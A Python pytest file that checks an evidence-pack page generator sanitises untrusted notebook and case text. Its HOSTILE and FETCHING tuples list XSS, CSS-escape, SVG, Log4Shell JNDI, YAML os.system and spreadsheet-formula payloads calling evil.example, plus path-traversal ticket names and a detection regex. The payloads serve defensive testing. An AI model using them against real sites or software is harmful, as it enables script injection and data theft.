"""Pages: a pack is read without running anything, and what a stranger wrote stays text."""

import datetime as dt
import html
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from dedl_workbook import evidence
from dedl_workbook.case.case import Case
from dedl_workbook.evidence import sealing
from dedl_workbook.notebooks import runner
from dedl_workbook.publication.job import Outcome, Verdict
from dedl_workbook.rules.findings import Finding, Report, Severity
from dedl_workbook.steps.order import STEPS
from dedl_workbook.views import maps, pages, pictures, tables

from tests.unit.conftest import make_case
from tests.unit.notebooks.test_runner import BEGIN, PASS, write

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "</td></table></div></body><h1>Passed</h1>",
    "**bold** [link](javascript:alert(1)) ![](https://evil.example/y.png)",
    "!!python/object/apply:os.system ['id']",
    '"; import os; os.system("id") #',
    '=HYPERLINK("https://evil.example")',
    "<!-- ",
    "${jndi:ldap://evil.example}",
    "{{ 7*7 }}",
)


def fetched_by(page: str) -> list[str]:
    """Return what a page would run, or ask a network for; text is no matter."""
    return re.findall(
        r"<(?:script|iframe|object|embed|link|base|form)\b[^>]*>|<[^>]*\son\w+\s*=[^>]*>"
        r"|<(?!a\b)[^>]*\s(?:src|href|srcset|data|poster)\s*=\s*[\"']?(?!data:image|#)[^>]*>"
        r"|<style[^<]*(?:url\(|@import)|javascript:[^<]*\">",
        page,
        re.IGNORECASE,
    )


def hostile_case(root: Path, text: str) -> Case:
    """Return a case in which a stranger's text stands wherever one can get it to."""
    case = make_case(root, board_reference=text)
    folder = case.new_attempt("validate")
    found = Finding("C04", Severity.ERROR, f"metadata/{text}.json", text, text, fix=text)
    report = Report("delivered", (found,), items=1, files=1, size=1, notes=(text,)).as_json()
    outcome = Outcome("validate", Verdict.FAILED, text, detail={"report": report})
    case.record_outcome(folder, outcome, "")
    (folder / f"file {re.sub('[^a-z]', '', text)} &amp; ' more.txt").write_text(text)
    sealing.seal(case, folder.name, notebook(text))
    return case


def notebook(text: str) -> nbformat.NotebookNode:
    v4 = nbformat.v4
    data: dict[str, Any] = dict.fromkeys(("text/html", "image/svg+xml", "text/plain"), text)
    data |= {"text/markdown": text, "application/javascript": "alert(1)"}
    outputs = [
        v4.new_output("display_data", data),
        v4.new_output("display_data", {"application/javascript": "alert(2)"}),
        v4.new_output("display_data", {"text/html": "<p>what comes after is there</p>"}),
    ]
    return v4.new_notebook(
        cells=[v4.new_markdown_cell(text), v4.new_code_cell(text, outputs=outputs)],
        metadata={"title": text},
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_no_page_of_a_pack_runs_or_fetches_anything(root: Path, text: str) -> None:
    bag = evidence.pack(hostile_case(root, text))

    pages = sorted(bag.path.rglob("*.html"))
    assert {page.name for page in pages} == {"index.html", "notebook.html", "report.html"}
    for page in pages:
        shown = page.read_text()
        assert fetched_by(shown) == [], page.name
        assert "default-src 'none'" in shown
        assert shown.count("<h1>Passed</h1>") == 0 or page.name == "notebook.html"


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_stranger_wrote_stands_in_the_index_as_he_wrote_it(root: Path, text: str) -> None:
    class Text(HTMLParser):
        said = ""

        def handle_data(self, data: str) -> None:
            self.said += data

    bag = evidence.pack(hostile_case(root, text))
    page = Text()
    page.feed((bag.path / "data" / "index.html").read_text())

    assert page.said.count(text) >= 4


FETCHING = (
    r"<p style='background:u\72l(https://evil.example)'>x</p>",
    r"<p style='background:\75\72\6c(https://evil.example)'>x</p>",
    "<p style='background:image-set(\"https://evil.example\" 1x)'>x</p>",
    "<p style='background:-webkit-cross-fade(src(\"//evil.example\"), red)'>x</p>",
    "<p style='background:&#117;rl(https://evil.example)'>x</p>",
    r"<svg><rect fill='u\72l(https://evil.example#a)'></rect></svg>",
    "<style>@\\69mport 'https://evil.example'</style>",
    "<svg><style>*{fill:u\\72l(https://evil.example)}</style></svg>",
    "<svg><a><set attributeName='href' to='javascript:alert(1)'></set><text>x</text></a></svg>",
    "<svg><image><animate attributeName='href' values='https://evil.example'/></image></svg>",
    "<svg><use href='https://evil.example#a'></use></svg>",
    "<svg><foreignObject><img src='https://evil.example'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src='https://evil.example'>",
    "<video poster='https://evil.example'><source srcset='https://evil.example'></video>",
    "<img src='data:text/html,https://evil.example'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<a ping='https://evil.example'>x</a>",
    "<a href='java\tscript:alert(1)//evil.example'>x</a>",
    "<a href='data:text/html,evil.example'>x</a>",
)


@pytest.mark.parametrize("markup", FETCHING)
def test_no_output_fetches_from_elsewhere_however_it_is_written(markup: str) -> None:
    cleaned = pages.clean(markup)

    assert "evil" not in cleaned
    assert "alert" not in cleaned
    assert "\\" not in cleaned


def test_an_output_stays_in_its_place_on_the_page() -> None:
    cleaned = pages.clean('<b style="position:fixed;inset:0;z-index:9;color:red">x</b>')

    assert cleaned == '<b style="color:red">x</b>'


def test_pictures_and_tables_of_the_workbook_stay_as_they_are() -> None:
    square = {"type": "Polygon", "coordinates": [[[0, 0], [3, 0], [3, 3], [0, 0]]]}
    days = [dt.datetime(2026, 1, day, tzinfo=dt.UTC) for day in (1, 2, 9)]
    rows = [("failed", "12 kB", "https://stac.example/a_long/way_to/somewhere/else/entirely")]
    shown = (
        maps.footprints([square]).svg,
        pictures.timeline(days).svg,
        tables.table(("a", "b", "c"), rows),
        tables.diff("+a\n-b\n c"),
        tables.details("more", tables.pairs({"a": 1})),
    )

    for markup in shown:
        assert as_parsed(pages.clean(markup)) == as_parsed(markup)


def as_parsed(markup: str) -> list[object]:
    """Return the elements, attributes and texts of some markup, styles without their spaces."""

    class Parts(HTMLParser):
        parts: list[object]

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            values = {name: re.sub(r"[\s;]", "", value or "") for name, value in attrs}
            self.parts.append((tag, {k: v.replace("0.18", ".18") for k, v in values.items()}))

        def handle_data(self, data: str) -> None:
            self.parts.append(data)

    parser = Parts()
    parser.parts = []
    parser.feed(markup)
    return parser.parts


def test_an_output_can_not_get_out_of_its_place() -> None:
    for text in (
        "</div></div></body>",
        "<table><tr><td>",
        "<!-- ",
        "<script>",
        "<textarea>",
        "<svg>",
    ):
        cleaned = pages.clean(text)
        opened = re.findall(r"<(\w+)", cleaned)
        assert sorted(opened) == sorted(re.findall(r"</(\w+)", cleaned)), text


def test_what_notebooks_show_stays_whole() -> None:
    table = '<table><tbody><tr><td style="color:red">1 &lt; 2 &amp; 3</td></tr></tbody></table>'
    picture = '<svg viewBox="0 0 1 1"><title>map</title><path d="M0 0L1 1"></path></svg>'
    image = '<img src="data:image/png;base64,iVBORw0KGgo=">'

    for markup in (table, picture, image, '<a href="https://stac.example">there</a>'):
        assert pages.clean(markup) == markup


def test_the_page_of_a_notebook_has_what_came_after_a_hostile_output(tmp_path: Path) -> None:
    for number, text in enumerate(HOSTILE):
        file = tmp_path / str(number) / "notebook.ipynb"
        file.parent.mkdir()
        nbformat.write(notebook(text), file)

        page = pages.of_notebook(file)

        assert "<p>what comes after is there</p>" in page, text
        assert "alert(2)" not in page


def test_a_hostile_output_stays_in_its_box_on_the_page(tmp_path: Path) -> None:
    class Boxes(HTMLParser):
        around: list[str]
        opened: list[str]

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in ("meta", "img", "br"):
                self.opened.append(str(dict(attrs).get("class", "")))

        def handle_endtag(self, tag: str) -> None:
            self.opened.pop()

        def handle_data(self, data: str) -> None:
            if data == "Forged":
                self.around = list(self.opened)

    file = tmp_path / "notebook.ipynb"
    text = "</td></table>" + "</div>" * 9 + "</body><h1>Forged</h1>"
    output = nbformat.v4.new_output("display_data", {"text/html": text})
    cells = [nbformat.v4.new_code_cell("x", outputs=[output])]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), file)
    boxes = Boxes()
    boxes.opened = []

    boxes.feed(pages.of_notebook(file))

    assert any("output" in box for box in boxes.around)


def test_a_ticket_can_not_be_called_a_path(root: Path) -> None:
    from dedl_workbook.base.errors import InputError

    for name in ("../x", "/etc/x", "a/b", "..", "a\\b", "a\nb", ""):
        with pytest.raises(InputError, match="ticket"):
            make_case(root, ticket=name)


def test_code_in_a_tickets_value_is_not_run_by_the_notebook(root: Path) -> None:
    text = '"\nopen("ran", "w")\n"""\nopen("ran", "w")\n\'\'\' + open("ran", "w") #\\'
    write(root, BEGIN, f"assert board_reference == {text!r}", PASS)
    case = make_case(root, board_reference=text)

    outcome = runner.run_step(case, STEPS["validate"], lambda _: None)

    assert outcome.verdict is Verdict.PASSED, outcome.summary
    assert not list(root.rglob("ran"))
    page = (evidence.pack(case).path / "data" / "index.html").read_text()
    assert html.escape(text) in page
